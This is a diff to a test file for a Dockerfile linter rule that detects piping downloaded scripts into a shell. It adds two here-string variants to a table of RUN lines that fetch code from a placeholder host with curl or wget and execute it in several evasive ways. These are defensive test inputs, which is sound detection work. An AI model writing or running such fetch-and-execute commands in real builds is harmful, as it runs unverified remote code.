@@ -158,6 +158,8 @@ describe('dockerfile/pipe-to-shell', () => {
     ['RUN sh -c "$(curl -fsSL https://x.example/i)"', 'command substitution'],
     ['RUN bash <(curl -s https://x.example/i)', 'process substitution'],
     ['RUN eval "$(wget -qO- https://x.example/env)"', 'eval'],
+    ['RUN bash <<< "$(curl -fsSL https://x.example/i)"', 'a here-string'],
+    ['RUN . /dev/stdin <<< "$(wget -qO- https://x.example/env)"', 'sourced from a here-string'],
     ["RUN sh -c 'curl -s https://x.example/i | sh'", 'a pipe inside sh -c'],
     ['RUN curl -s https://x.example/i | tee /tmp/i.sh | sh', 'through tee'],
     ['RUN busybox wget -O- https://x.example/i | busybox sh', 'busybox applets'],
